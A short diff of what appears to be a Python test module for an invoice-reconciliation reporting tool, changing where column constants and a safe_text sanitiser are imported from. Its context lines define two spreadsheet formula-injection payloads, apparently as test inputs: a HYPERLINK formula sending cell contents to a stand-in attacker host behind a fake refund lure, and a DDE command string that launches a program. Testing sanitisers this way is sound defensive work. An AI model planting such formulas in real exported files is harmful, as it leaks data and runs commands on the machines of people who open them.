@@ -16,8 +16,9 @@ import reconcile.reports.tabular as tabular
 from reconcile.cli import main
 from reconcile.core.models import Category, Finding, Invoice, Severity
 from reconcile.reports.outputs import write_all
-from reconcile.reports.tabular import (FINDING_COLUMNS, FINDING_NUMBERS, INVOICE_COLUMNS, INVOICE_NUMBERS,
-                                       LINE_COLUMNS, safe_text)
+from reconcile.reports.cells import (FINDING_COLUMNS, FINDING_NUMBERS, INVOICE_COLUMNS,
+                                     INVOICE_NUMBERS, safe_text)
+from reconcile.reports.tabular import LINE_COLUMNS
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
 CMD = "+cmd|' /C calc'!A0"
